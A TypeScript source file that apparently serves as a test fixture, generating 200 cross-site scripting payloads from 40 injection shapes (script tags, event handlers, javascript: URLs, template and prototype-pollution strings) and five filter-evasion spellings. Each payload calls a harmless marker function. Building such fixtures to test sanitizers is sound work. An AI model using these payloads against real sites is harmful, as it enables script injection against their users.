/**
 * Texts that run code wherever a program takes text for markup, an address, a style or a script. Each calls `pwned()`
 * where it runs at all. Two hundred different ones: shapes times tricks of spelling.
 */
const CALL = 'top.pwned()';

const SHAPES: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `"><script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `'"><img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x>`,
  (call) => `<body onload=${call}>`,
  (call) => `<iframe src="javascript:${call}">`,
  (call) => `<iframe srcdoc="<script>${call}</script>">`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `javascript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<video><source onerror=${call}>`,
  (call) => `<audio src=x onerror=${call}>`,
  (call) => `<object data="javascript:${call}">`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<form action="javascript:${call}"><button>`,
  (call) => `<math href="javascript:${call}">x</math>`,
  (call) => `<style onload=${call}></style>`,
  (call) => `<link rel=stylesheet href=x onerror=${call}>`,
  (call) => `<base href="javascript:${call}//">`,
  (call) => `<meta http-equiv=refresh content="0;javascript:${call}">`,
  (call) => `</title><script>${call}</script>`,
  (call) => `</textarea><img src=x onerror=${call}>`,
  (call) => `<!--><img src=x onerror=${call}>`,
  (call) => `\${${call}}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `" onmouseover="${call}`,
  (call) => `' autofocus onfocus='${call}`,
  (call) => `x:expression(${call})`,
  (call) => `url(javascript:${call})`,
  (call) => `<x onpointerenter=${call} style=position:fixed;inset:0>`,
  (call) => `<template><img src=x onerror=${call}></template>`,
  (call) => `<noscript><img src=x onerror=${call}></noscript>`,
  (call) => `<select><img src=x onerror=${call}></select>`,
  (call) => `{"__proto__":{"innerHTML":"<img src=x onerror=${call}>"}}`,
  (call) => `%3Cimg%20src%3Dx%20onerror%3D${call}%3E`,
];

const SPELLINGS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) =>
    `X${text
      .replace(/[a-z]/g, (letter, at: number) => (at % 2 ? letter.toUpperCase() : letter))
      .replace(/top\.pwned/i, 'top.pwned')}`,
  (text) => `\t${text.replaceAll('=', '=\t').replaceAll('<img ', '<img/')}`,
  (text) => `x${text.replaceAll('<', '<\0').replaceAll('javascript:', 'java\nscript:')}`,
  (text) => `\u202e${text}\u0000`,
];

/** `PAYLOADS[n]` is the same in every run. */
export const PAYLOADS: readonly string[] = SPELLINGS.flatMap((spell) =>
  SHAPES.map((shape) => spell(shape(CALL))),
);
